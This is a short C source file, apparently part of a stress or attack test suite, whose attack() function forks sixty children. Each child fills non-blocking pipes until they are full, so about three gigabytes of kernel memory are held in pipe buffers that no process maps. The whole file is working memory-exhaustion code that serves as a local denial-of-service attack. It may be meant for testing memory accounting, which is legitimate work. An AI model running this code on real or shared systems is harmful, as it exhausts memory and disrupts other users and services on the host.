/* Takes three gigabytes that no process maps, in the buffers of pipes. A user's first ones are
 * large, and the others have two pages, pipe(7). */
#include <fcntl.h>
#include <sys/resource.h>
static void fill_pipes(void)
{
    static char block[1 << 16];
    int ends[2];
    while (pipe2(ends, O_NONBLOCK) != -1)
        while (write(ends[1], block, sizeof block) > 0)
            ;
}
static void attack(void)
{
    enum { CHILDREN = 60 };
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max < 20000 ? limit.rlim_max : 20000;
    setrlimit(RLIMIT_NOFILE, &limit);
    for (int i = 0; i < CHILDREN; i++) {
        if (fork() == 0) {
            fill_pipes();
            pause();
        }
        usleep(20000);
    }
    sleep(2);
    succeeded("3000 MB in pipes");
}
